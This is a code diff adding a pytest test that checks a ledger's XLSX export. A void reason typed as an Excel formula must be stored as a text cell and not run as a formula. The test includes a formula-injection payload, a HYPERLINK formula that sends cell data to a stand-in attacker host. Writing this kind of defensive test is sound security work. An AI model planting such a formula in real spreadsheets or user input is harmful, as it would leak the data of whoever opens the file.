@@ -439,3 +439,37 @@ def test_ledger_concurrent_appends_keep_one_chain(engine: Engine, site: Site) ->
     assert result.ok and result.entries == 20
     with engine.connect() as conn:
         assert conn.execute(text("SELECT max(seq) FROM ledger")).scalar() == 20
+
+
+def test_ledger_xlsx_export_keeps_a_formula_looking_reason_as_text(
+    engine: Engine, store: DiskPictureStore, site: Site
+) -> None:
+    """A void reason typed as a formula is exported as the text it is, never as a formula.
+
+    Excel runs formulas when the office opens the export (=HYPERLINK sends a click, with
+    the row's data, elsewhere); the cell keeps the exact text, typed as a string.
+    """
+    from tests.faults.rig import record
+
+    formula = '=HYPERLINK("http://evil.invalid/?"&A2,"open")'
+    seq = _one_violation(engine, store, site)
+    service.act(
+        engine, seq=seq, action="void", reason=formula, actor="user:olga", now=T0.timestamp() + 60
+    )
+    start, end = T0.timestamp(), T0.timestamp() + 86400
+    sheet = load_workbook(io.BytesIO(service.export_xlsx(engine, start=start, end=end)))["ledger"]
+    column = [c.value for c in sheet[1]].index("reason") + 1
+    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
+    voided = [c for c in cells if c.value == formula]
+    assert len(voided) == 1 and voided[0].data_type == "s"
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    record(
+        "hostile",
+        "formula injection into the ledger's XLSX export",
+        {
+            "attack": "a void reason (any operator) written as an Excel formula",
+            "tried": 1,
+            "refused": 1,
+            "notes": "exported as a text cell with the exact reason",
+        },
+    )
